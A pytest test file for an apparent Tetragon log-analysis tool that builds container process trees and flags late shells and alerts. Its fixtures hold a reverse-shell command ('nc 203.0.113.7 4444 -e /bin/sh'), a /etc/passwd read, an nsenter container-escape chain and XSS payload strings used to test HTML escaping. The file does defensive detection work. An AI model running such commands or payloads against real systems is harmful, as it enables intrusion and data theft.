"""Process trees from the history: structure, late shells, folding, alerts, the text, the CLI, the HTML."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner
from conftest import REAL_LOGS
from test_ancestry_world import Pod, World, host_and_pod, scenario_lines

from tetrapipe.cli import cli
from tetrapipe.commands.tree_text import render_text
from tetrapipe.flows.ingest import ingest
from tetrapipe.lake import Lake, connect
from tetrapipe.schema import ALERT_SCHEMA
from tetrapipe.sources.files import expand_inputs
from tetrapipe.transforms.ancestry import AncestryTransform
from tetrapipe.tree import Selection, TreeError, build_tree, render_html
from tetrapipe.tree.model import format_offset, parse_time
from tetrapipe.units import parse_duration


def load(tmp_path: Path, lines: list[str], name: str = "tetragon.log") -> Lake:
    log = tmp_path / name
    log.write_text("\n".join(lines) + "\n")
    lake = Lake(tmp_path / "lake")
    ingest(expand_inputs([str(log)]), lake, transforms=[AncestryTransform()])
    return lake


@pytest.fixture
def story(tmp_path: Path) -> tuple[Lake, dict]:
    w = World()
    p = host_and_pod(w)
    lake = load(tmp_path, scenario_lines(w, p))
    return lake, p


def add_alert(lake: Lake, proc, rule: str = "reverse-shell", severity: str = "high") -> None:
    row = {c: None for c in ALERT_SCHEMA.names}
    row.update(
        alert_id=f"{rule}-1",
        rule_id=rule,
        title="Reverse shell",
        severity=severity,
        mitre=["T1059"],
        tags=[],
        time=proc.start,
        last_time=proc.start,
        namespace=proc.pod.namespace if proc.pod else None,
        pod=proc.pod.name if proc.pod else None,
        exec_id=proc.exec_id,
        process_binary=proc.binary,
        arguments=proc.arguments,
        message=f"{proc.binary} {proc.arguments} opened a shell to the network",
        count=1,
        event_ids=[],
    )
    lake.commit("alerts", pa.Table.from_pylist([row], schema=ALERT_SCHEMA))


def shown_lines(view) -> list:
    out = []

    def walk(s, depth):
        out.append((depth, s))
        for c in s.children:
            walk(c, depth + 1)

    for g in view.groups:
        for e in g.entries:
            for r in e.roots:
                walk(r, 0)
    return out


# --- the model -----------------------------------------------------------------------------


def test_pod_tree_structure_late_shell_and_its_chain(story) -> None:
    lake, p = story
    view = build_tree(lake, Selection(pod="crawler-7d9f8b6c5-x2x4z", namespace="tenant-jobs"))
    assert len(view.groups) == 1
    g = view.groups[0]
    assert (g.namespace, g.pod, g.container_name) == ("tenant-jobs", "crawler-7d9f8b6c5-x2x4z", "crawler")
    # two entries: the entrypoint under the shim, the kubectl-exec shell under runc
    by_parent = {e.parent_binary: e for e in g.entries}
    assert set(by_parent) == {"/usr/bin/containerd-shim-runc-v2", "/usr/bin/runc"}
    assert by_parent["/usr/bin/runc"].lineage == ["/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd", None]
    [bash] = [s for s in by_parent["/usr/bin/runc"].roots]
    assert bash.node.binary == "/bin/bash" and bash.node.late_shell and bash.node.injected
    assert bash.node.since_container_start == dt.timedelta(seconds=400)
    assert [c.node.binary for c in bash.children] == ["/usr/bin/id", "/bin/cat", "/usr/bin/curl", "/usr/bin/nc"]
    # the late shell's parent chain, as the enriched events in the lake have it
    con = connect(lake)
    try:
        parent, ancestors, binaries = con.sql(
            "SELECT parent_exec_id, ancestor_exec_ids, ancestor_binaries FROM events "
            "WHERE kind = 'process_exec' AND exec_id = $x",
            params={"x": p["bash"].exec_id},
        ).fetchall()[0]
    finally:
        con.close()
    assert parent == p["runc"].exec_id
    assert ancestors == [p["shim"].exec_id, p["containerd"].exec_id, p["init"].exec_id]
    assert binaries == ["/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd", None]  # init never exec'd here
    # nothing else is a late shell: the crawler's own sh ran 30 s .. 3 min after start
    assert [n.binary for n in view.late_shells] == ["/bin/bash"]


def test_events_attached_under_their_process(story) -> None:
    lake, p = story
    view = build_tree(lake, Selection(pod="crawler"))
    nodes = view.nodes
    assert [e.label for e in nodes[p["nc"].exec_id].events] == ["connect 203.0.113.7:4444"]
    assert [e.label for e in nodes[p["cat"].exec_id].events] == ["read /etc/passwd"]
    assert nodes[p["nc"].exec_id].status() == "exit 1"
    assert nodes[p["id"].exec_id].status() == "exit 0"
    assert nodes[p["bash"].exec_id].status() == "running"


def test_identical_siblings_fold_with_a_count(story) -> None:
    lake, p = story
    view = build_tree(lake, Selection(pod="crawler"))
    lines = shown_lines(view)
    [(depth, sh)] = [(d, s) for d, s in lines if s.node.binary == "/bin/sh"]
    assert sh.count == 4 and depth == 1
    assert [c.node.binary for c in sh.children] == ["/usr/bin/curl"]
    unfolded = build_tree(lake, Selection(pod="crawler"), fold=False)
    assert sum(s.node.binary == "/bin/sh" for _, s in shown_lines(unfolded)) == 4


def test_a_process_with_an_alert_never_folds_and_is_marked(tmp_path: Path) -> None:
    w = World()
    p = host_and_pod(w)
    lines = scenario_lines(w, p)
    lake = load(tmp_path, lines)
    # the third fetch connects elsewhere and has an alert: it must stand out of the ×N
    con = connect(lake)
    try:
        third_sh = con.sql(
            "SELECT exec_id FROM processes WHERE process_binary = '/bin/sh' ORDER BY start_time LIMIT 1 OFFSET 2"
        ).fetchall()[0][0]
    finally:
        con.close()
    proc = next(q for q in w.procs if q.exec_id == third_sh)
    add_alert(lake, proc, rule="odd-fetch", severity="medium")
    add_alert(lake, p["nc"])
    view = build_tree(lake, Selection(pod="crawler"))
    lines = shown_lines(view)
    counts = sorted(s.count for _, s in lines if s.node.binary == "/bin/sh")
    assert counts == [1, 3]
    text = render_text(view)
    assert "ALERT high reverse-shell" in text and "ALERT medium odd-fetch" in text
    assert "! HIGH reverse-shell: /usr/bin/nc 203.0.113.7 4444 -e /bin/sh opened a shell to the network" in text
    assert view.counts()["alerts"] == 2


def test_exec_id_shows_the_path_and_the_subtree(story) -> None:
    lake, p = story
    view = build_tree(lake, Selection(exec_id=p["cat"].exec_id))
    lines = shown_lines(view)
    assert [(d, s.node.binary) for d, s in lines] == [(0, "/bin/bash"), (1, "/bin/cat")]
    assert lines[0][1].node.on_path and lines[0][1].node.other_children == 3
    assert lines[1][1].node.focus
    sub = build_tree(lake, Selection(exec_id=p["crawler"].exec_id))
    assert {s.node.binary for _, s in shown_lines(sub)} == {"/usr/bin/node", "/bin/sh", "/usr/bin/curl"}
    with pytest.raises(TreeError, match="no process with exec_id"):
        build_tree(lake, Selection(exec_id="bm9wZQ=="))


def test_time_range_keeps_running_processes(story) -> None:
    lake, p = story
    since = p["pod"].container_start + dt.timedelta(minutes=5)
    view = build_tree(lake, Selection(pod="crawler", since=since))
    binaries = {s.node.binary for _, s in shown_lines(view)}
    assert "/usr/bin/node" in binaries  # started at +0.2s, still running
    assert "/bin/bash" in binaries
    assert sum(s.count for _, s in shown_lines(view) if s.node.binary == "/bin/sh") == 0  # all exited by +3m
    until = build_tree(lake, Selection(pod="crawler", until=p["pod"].container_start + dt.timedelta(minutes=1)))
    assert "/bin/bash" not in {s.node.binary for _, s in shown_lines(until)}


def test_pod_prefix_and_helpful_misses(story) -> None:
    lake, _ = story
    assert build_tree(lake, Selection(pod="crawler")).groups[0].pod == "crawler-7d9f8b6c5-x2x4z"
    with pytest.raises(TreeError, match="pods in the history: tenant-jobs/crawler-7d9f8b6c5-x2x4z"):
        build_tree(lake, Selection(pod="elasticsearch"))
    with pytest.raises(TreeError, match="say what to draw"):
        build_tree(lake, Selection())


def test_real_samples_privileged_pod_tree(tmp_path: Path) -> None:
    lines = [ln for path in REAL_LOGS for ln in Path(path).read_text().splitlines() if ln.strip()]
    lake = load(tmp_path, lines)
    view = build_tree(lake, Selection(pod="privileged-pod"))
    chains = {tuple(n.binary for n in path) for path in _paths(view)}
    # the real nsenter escape: bash (exec'd by runc) -> nsenter -> bash -> cat
    assert ("/bin/bash", "/usr/bin/nsenter", "/usr/bin/bash", "/usr/bin/cat") in chains
    assert any(p[0] == "/docker-entrypoint.sh" for p in chains)
    text = render_text(view)
    assert "LATE SHELL" in text  # bash 7m16s after the container started


def _paths(view) -> list[list]:
    out = []

    def walk(s, acc):
        acc = [*acc, s.node]
        out.append(acc)
        for c in s.children:
            walk(c, acc)

    for g in view.groups:
        for e in g.entries:
            for r in e.roots:
                walk(r, [])
    return out


def test_many_processes_fold_into_few_lines(tmp_path: Path) -> None:
    w = World()
    p = host_and_pod(w)
    lines = [w.exec(p["shim"]), w.exec(p["crawler"])]
    for i in range(1500):
        at = 10 + i * 0.1 if i < 1000 else 400 + i  # the last 500 start after 5 minutes: late shells
        sh = w.proc("/bin/sh", "-c /app/fetch.sh", parent=p["crawler"], at=at, pod=p["pod"], in_init_tree=True)
        c = w.proc(
            "/usr/bin/curl", "-s https://crawl.example.org/", parent=sh, at=at + 0.05, pod=p["pod"], in_init_tree=True
        )
        lines += [w.exec(sh), w.exec(c), w.connect(c, "198.51.100.20", 443), w.exit(c, 0.2), w.exit(sh, 0.3)]
    lake = load(tmp_path, lines)
    view = build_tree(lake, Selection(pod="crawler"))
    assert view.processes == 3001
    text = render_text(view, width=200)
    assert "×1000 /bin/sh -c /app/fetch.sh" in text
    assert re.search(r"×500 /bin/sh -c /app/fetch.sh .* LATE SHELL", text)
    assert len(text.splitlines()) < 14
    assert "500 late shells" in text


# --- text --------------------------------------------------------------------------------


def test_text_has_the_tree_the_markers_and_the_colours(story) -> None:
    lake, _ = story
    view = build_tree(lake, Selection(pod="crawler"))
    text = render_text(view, width=200)
    expected = [
        "tenant-jobs/crawler-7d9f8b6c5-x2x4z  container crawler (quay.io/cilium/crawler:0.3)",
        "↑ /usr/bin/containerd-shim-runc-v2 ← /usr/bin/containerd ← ?  (outside the container)",
        "+0.2s /usr/bin/node /app/crawler.js  pid 7010 · running · 4 children",
        "+30s ×4 /bin/sh -c /app/fetch.sh",
        "↑ /usr/bin/runc ← /usr/bin/containerd-shim-runc-v2 ← /usr/bin/containerd ← ?",
        "+6m40s /bin/bash  pid 7101 · running · 4 children  LATE SHELL +6m40s after container start",
        "exec'd into container (not in the init tree)",
        "+6m50s /bin/cat /etc/passwd",
        "▪ read /etc/passwd",
        "+7m10s /usr/bin/nc 203.0.113.7 4444 -e /bin/sh  pid 7105 · exit 1",
        "→ connect 203.0.113.7:4444",
        "14 processes · 6 connections · 1 file event · 0 alerts · 1 late shell",
    ]
    for line in expected:
        assert line in text, line
    # the order on screen is the order in time
    assert text.index("/usr/bin/id") < text.index("/bin/cat /etc/passwd") < text.index("/usr/bin/nc")
    colored = render_text(view, width=200, color=True)
    late_line = next(ln for ln in colored.splitlines() if "/bin/bash" in ln)
    assert "\x1b[1;31m" in late_line or "\x1b[1;38;2;" in late_line  # bold red
    assert "\x1b[" not in text  # plain when asked


def test_format_helpers() -> None:
    assert format_offset(dt.timedelta(seconds=400)) == "+6m40s"
    assert format_offset(dt.timedelta(seconds=0.2)) == "+0.2s"
    assert format_offset(dt.timedelta(hours=2, minutes=3)) == "+2h03m"
    assert format_offset(dt.timedelta(seconds=-1)) == "-1s"
    assert format_offset(None) == "?"
    assert parse_duration("5m") == dt.timedelta(minutes=5) and parse_duration("90") == dt.timedelta(seconds=90)
    newest = dt.datetime(2024, 5, 1, 12)
    assert parse_time("2h", newest) == dt.datetime(2024, 5, 1, 10)
    assert parse_time("2024-05-01T09:30:00Z", newest) == dt.datetime(2024, 5, 1, 9, 30)
    with pytest.raises(ValueError, match="not a time or a duration"):
        parse_time("yesterday", newest)


# --- the command -------------------------------------------------------------------------


def test_cli_tree_pod_text_json_html_and_errors(story, tmp_path: Path) -> None:
    lake, p = story
    runner = CliRunner()
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root)])
    assert res.exit_code == 0, res.output
    assert "crawler-7d9f8b6c5-x2x4z" in res.output and "late shells" in res.output
    res = runner.invoke(
        cli, ["tree", "--lake", str(lake.root), "--pod", "crawler", "-n", "tenant-jobs", "--width", "200"]
    )
    assert res.exit_code == 0, res.output
    assert "LATE SHELL +6m40s" in res.output and "×4 /bin/sh" in res.output
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root), "--pod", "crawler", "--format", "json"])
    data = json.loads(res.output)
    assert data["counts"]["late_shells"] == 1
    assert data["processes"][p["bash"].exec_id]["late_shell"] is True
    out = tmp_path / "tree.html"
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root), "--pod", "crawler", "--html", str(out)])
    assert res.exit_code == 0 and out.exists()
    assert "wrote" in res.output and "1 late shell" in res.output
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root), "--pod", "nope"])
    assert res.exit_code == 2 and "no processes of pod 'nope'" in res.output
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root), "--pod", "crawler", "--since", "last tuesday"])
    assert res.exit_code == 2 and "not a time or a duration" in res.output
    res = runner.invoke(cli, ["tree", "--lake", str(lake.root), "--pod", "crawler", "--since", "1m", "--no-fold"])
    assert res.exit_code == 0 and "/bin/bash" in res.output and "/app/fetch.sh" not in res.output


def test_process_tree_macro_in_sql(story) -> None:
    from tetrapipe.tree import install

    lake, p = story
    con = connect(lake)
    try:
        install(con)
        rows = con.sql(
            "SELECT depth, process_binary FROM process_tree(pod_name := 'crawler-7d9f8b6c5-x2x4z') ORDER BY path"
        ).fetchall()
        lineage = con.sql(
            "SELECT level, process_binary FROM process_lineage($x) ORDER BY level", params={"x": p["nc"].exec_id}
        ).fetchall()
    finally:
        con.close()
    assert rows[0] == (0, "/usr/bin/node") and len(rows) == 14
    assert (0, "/bin/bash") in rows and (1, "/usr/bin/nc") in rows
    assert lineage == [
        (0, "/usr/bin/nc"),
        (1, "/bin/bash"),
        (2, "/usr/bin/runc"),
        (3, "/usr/bin/containerd-shim-runc-v2"),
    ]


def test_the_drawn_tree_reads_fewer_columns_and_gives_the_same_rows(story) -> None:
    """build_tree's narrow macro: the rows of process_tree for the columns it draws, for every selection kind,
    and its scan of the events names none of the columns it does not draw."""
    from tetrapipe.tree import install
    from tetrapipe.tree.sql import DRAWN_COLUMNS, DRAWN_TREE, install_drawn

    lake, p = story
    cols = ", ".join(["depth", "path", *DRAWN_COLUMNS])
    con = connect(lake)
    try:
        install(con)
        install_drawn(con, lineage=False)
        for args in (
            "pod_name := 'crawler-7d9f8b6c5-x2x4z'",
            "pod_namespace := 'tenant-jobs'",
            "container := 'crawler'",
            f"root_exec_id := '{p['bash'].exec_id}'",
            "since := TIMESTAMP '2000-01-01'",
        ):
            wide = con.sql(f"SELECT {cols} FROM process_tree({args}) ORDER BY ALL").fetchall()
            narrow = con.sql(f"SELECT {cols} FROM {DRAWN_TREE}({args}) ORDER BY ALL").fetchall()
            assert narrow == wide and wide, args
            assert [r[0] for r in con.sql(f"DESCRIBE SELECT * FROM {DRAWN_TREE}({args})").fetchall()] == [
                "depth",
                "path",
                *(c for c in [r[0] for r in con.sql("DESCRIBE processes").fetchall()] if c in DRAWN_COLUMNS),
            ]
        plan = "".join(r[1] for r in con.sql(f"EXPLAIN SELECT * FROM {DRAWN_TREE}(pod_name := 'x')").fetchall())
        assert "pod_labels" in "".join(r[1] for r in con.sql("EXPLAIN SELECT * FROM process_tree()").fetchall())
        assert "pod_labels" not in plan and "cap_effective" not in plan and "container_name" in plan
    finally:
        con.close()


# --- HTML --------------------------------------------------------------------------------


def test_html_is_self_contained_and_escapes_attacker_strings(tmp_path: Path) -> None:
    w = World()
    p = host_and_pod(w)
    evil_pod = Pod("tenant-jobs", "x</script><script>alert(1)</script>", "c", p["pod"].container_start)
    evil = w.proc(
        "/bin/sh", "-c '</script><img src=x onerror=alert(2)>' \u2028", parent=p["crawler"], at=50, pod=p["pod"]
    )
    evil2 = w.proc("/bin/sh", "", parent=p["shim"], at=60, pod=evil_pod)
    lake = load(tmp_path, [*scenario_lines(w, p), w.exec(evil), w.exec(evil2)])
    page = render_html(build_tree(lake, Selection(pod="crawler")))
    page2 = render_html(build_tree(lake, Selection(namespace="tenant-jobs")))
    for doc in (page, page2):
        assert doc.count("<script") == 2  # the data and the code, nothing injected
        assert "<img" not in doc and "onerror=alert(2)>" not in doc
        assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", doc)  # nothing fetched
        assert "Content-Security-Policy" in doc and "default-src 'none'" in doc
        data = re.search(r'<script id="tree-data" type="application/json">(.*?)</script>', doc, re.S).group(1)
        json.loads(data)  # the embedded data is intact JSON
    assert "&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in page


def _load_script():
    """scripts/check_tree_html.py, the documented check (not a package: loaded by path)."""
    import importlib.util

    path = Path(__file__).resolve().parents[1] / "scripts" / "check_tree_html.py"
    spec = importlib.util.spec_from_file_location("check_tree_html", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def test_html_in_headless_chromium(story, tmp_path: Path) -> None:
    """The real thing: Chromium runs the page's script; the DOM has every process, the late shell marked,
    and the side panel filled for the process named in the URL; and it draws a screenshot."""
    check = _load_script()
    chromium_dump_dom, chromium_screenshot = check.chromium_dump_dom, check.chromium_screenshot

    lake, p = story
    add_alert(lake, p["nc"])
    view = build_tree(lake, Selection(pod="crawler"))
    page = tmp_path / "tree.html"
    page.write_text(render_html(view))
    dom = chromium_dump_dom(page, select=p["bash"].exec_id, profile=tmp_path / "profile")
    assert 'data-ready="1"' in dom  # the script ran to its end
    shown = re.findall(r'<li class="proc[^"]*" data-exec-id="([^"]+)"', dom)
    assert len(shown) == len(shown_lines(view)) == 8  # 14 processes: the 4 sh -> curl runs fold into 2 lines
    late = re.findall(r'<li class="proc late[^"]*" data-exec-id="([^"]+)"', dom)
    assert late == [p["bash"].exec_id]
    alerted = re.findall(r'<li class="proc alerted[^"]*" data-exec-id="([^"]+)"', dom)
    assert alerted == [p["nc"].exec_id]
    panel = re.search(r'<aside id="panel"[^>]*>(.*?)</aside>', dom, re.S)
    assert panel is not None and f'data-selected="{p["bash"].exec_id}"' in dom
    body = panel.group(1)
    assert "LATE SHELL +6m40s" in body and p["bash"].exec_id in body and "/usr/bin/runc" in body
    png = chromium_screenshot(page, tmp_path / "tree.png", select=p["bash"].exec_id, profile=tmp_path / "profile2")
    data = png.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 20_000


def test_html_badges_are_never_clipped_in_chromium(story, tmp_path: Path) -> None:
    """A process with many alerts: every badge is laid out whole inside its row and inside anything that clips
    (the tree scrolls sideways, so a badge past its edge was in the DOM yet out of sight), wide or narrow."""
    check = _load_script()
    lake, p = story
    for rule, severity in [
        ("interactive-shell-in-container", "medium"),
        ("late-shell-in-container", "high"),
        ("passwd-shadow-tampering", "high"),
        ("sensitive-file-read", "high"),
    ]:
        add_alert(lake, p["bash"], rule=rule, severity=severity)
    page = tmp_path / "tree.html"
    page.write_text(render_html(build_tree(lake, Selection(pod="crawler"))))
    for width in (1400, 760):
        count, problems = check.badge_problems(
            page, select=p["bash"].exec_id, profile=tmp_path / f"p{width}", size=(width, 900)
        )
        # late shell, exec'd and four alerts, in the row and in the side panel; the ×4 of the folded sh runs
        assert count == 2 * (2 + 4) + 1
        assert problems == [], (width, problems)
    # the check itself sees a clipped badge: the same page with the row's badges pushed out of sight
    shoved = tmp_path / "shoved.html"
    shoved.write_text(page.read_text().replace("</style>", ".row .badge { margin-left:2000px; }</style>"))
    count, problems = check.badge_problems(shoved, select=p["bash"].exec_id, profile=tmp_path / "p-shoved")
    assert any("clipped by section#tree" in x for x in problems) and any("sticks out" in x for x in problems)


def test_a_chain_deeper_than_the_drawing_says_it_is_cut_and_json_still_works(tmp_path: Path) -> None:
    """``sh -c`` nested 150 deep (a payload made to break the drawing): the tree stops at DRAW_DEPTH and says so.

    The walk used to stop at 256 levels without a word (hiding what ran below), and ``--format json``
    failed with orjson's recursion limit from ~130 nested processes on. The shells below the cut are
    still in the history, and ``--exec-id`` of a deep one draws them.
    """
    from tetrapipe.tree.model import DEPTH_CUT_NOTE, DRAW_DEPTH

    w = World()
    p = host_and_pod(w)
    lines = [w.exec(p["shim"]), w.exec(p["crawler"])]
    parent, chain = p["crawler"], []
    for i in range(150):
        parent = w.proc("/bin/sh", f"-c level{i}", parent=parent, at=10 + i * 0.01, pod=p["pod"], in_init_tree=True)
        chain.append(parent)
        lines.append(w.exec(parent))
    lake = load(tmp_path, lines)
    view = build_tree(lake, Selection(pod="crawler"))
    assert view.depth_cut and DRAW_DEPTH < 150
    text = render_text(view, width=400)
    assert DEPTH_CUT_NOTE in text and "level0" in text and "level149" not in text
    out = CliRunner().invoke(cli, ["tree", "--lake", str(tmp_path / "lake"), "--pod", "crawler", "--format", "json"])
    assert out.exit_code == 0, out.output[-2000:]
    assert json.loads(out.output)["depth_cut"] is True
    deep = build_tree(lake, Selection(exec_id=chain[120].exec_id))  # the part below the cut, drawn from inside it
    levels = {n.arguments.split()[-1] for n in deep.nodes.values() if n.arguments}
    assert {f"level{i}" for i in range(70, 150)} <= levels  # 50 levels up, the 29 below
    assert "level69" not in levels and deep.depth_cut  # the path up is cut too
    focused = CliRunner().invoke(
        cli, ["tree", "--lake", str(tmp_path / "lake"), "--exec-id", chain[120].exec_id, "--format", "json"]
    )
    assert focused.exit_code == 0, focused.output[-2000:]
    html = render_html(view)
    assert DEPTH_CUT_NOTE in html
